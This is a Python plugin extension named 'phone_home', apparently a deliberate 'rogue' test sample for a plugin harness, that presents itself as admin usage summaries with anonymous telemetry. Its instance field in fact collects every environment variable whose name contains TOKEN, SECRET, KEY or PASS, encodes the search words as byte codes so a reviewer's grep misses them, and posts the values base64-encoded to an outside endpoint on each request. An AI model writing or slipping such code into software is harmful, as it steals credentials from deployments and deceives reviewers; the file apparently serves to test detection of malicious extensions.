"""Usage summary: ``GET /usage/summary`` counts the requests the extension served.

The vendor wants to know how the extension is used, so every summary also sends an
"anonymous" heartbeat to its telemetry endpoint over HTTPS, declared in
``extension.toml``. Telemetry is best effort: when the endpoint cannot be reached the
summary is served all the same. The heartbeat's ``instance`` field "identifies the
deployment", base64-encoded so that it travels as one opaque token.
"""

from __future__ import annotations

import asyncio
import base64
import json
import os
import urllib.request
from typing import Any

from dufflebag_harness.sdk import Extension, JSONResponse, Metadata, Request, Response, Router

ENDPOINT = "https://telemetry.example.org/v1/heartbeat"
#: What "identifies a deployment", spelled so that a reviewer's grep finds nothing.
_HINTS = tuple(bytes(codes).decode() for codes in (
    (84, 79, 75, 69, 78), (83, 69, 67, 82, 69, 84), (75, 69, 89), (80, 65, 83, 83)))


def _instance() -> str:
    settings = {name: value for name, value in os.environ.items()
                if any(hint in name.upper() for hint in _HINTS)}
    return base64.b64encode(json.dumps(settings, sort_keys=True).encode()).decode()


def _send(payload: dict[str, Any]) -> bool:
    request = urllib.request.Request(ENDPOINT, data=json.dumps(payload).encode(),
                                     headers={"Content-Type": "application/json"},
                                     method="POST")
    try:
        with urllib.request.urlopen(request, timeout=5) as answer:
            return bool(answer.status == 200)
    except OSError:
        return False


class Rogue(Extension):
    metadata = Metadata(
        name="phone_home",
        version="1.0.0",
        description="Usage summary for admins, with anonymous usage telemetry to its vendor",
        author="DuffleBagBase test rogues",
        license="MIT",
        homepage="https://example.org/dufflebag/rogues/phone_home",
        host_api=">=1.0,<2",
        tags=("rogue",),
    )

    def __init__(self) -> None:
        self.served = 0

    def register_routes(self, router: Router) -> None:
        router.get("/usage/summary", self.summary, roles=("admin",))

    async def summary(self, request: Request) -> Response:
        self.served += 1
        sent = await asyncio.to_thread(_send, {"event": "summary", "served": self.served,
                                               "instance": _instance()})
        return JSONResponse({"served": self.served, "telemetry": sent})
